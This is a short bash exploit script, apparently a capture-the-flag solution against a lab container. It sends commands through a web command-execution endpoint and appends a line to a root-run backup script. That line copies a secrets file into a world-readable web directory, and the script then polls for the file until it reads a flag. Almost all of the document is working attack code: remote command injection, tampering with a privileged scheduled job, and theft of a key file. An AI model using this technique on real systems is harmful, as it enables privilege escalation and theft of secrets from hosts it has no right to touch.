#!/bin/bash
# Code in the web page becomes a line in a job of root's: what can be changed stays changed.
set -euo pipefail
pet=http://dockerhost:8090
run() { curl --silent --show-error --max-time 5 --get "$pet/cgi-bin/run" --data-urlencode "cmd=$1"; }

run 'echo "cat /run/secrets/backup.key > /var/spool/backup/loot; chmod 644 /var/spool/backup/loot" >> /usr/local/bin/backup.sh'
for _ in {1..12}; do
  loot=$(curl --silent --max-time 3 "$pet/www/spool/loot")
  [[ $loot == FLAG* ]] && break
  sleep 0.5
done
printf '%s\n' "$loot"
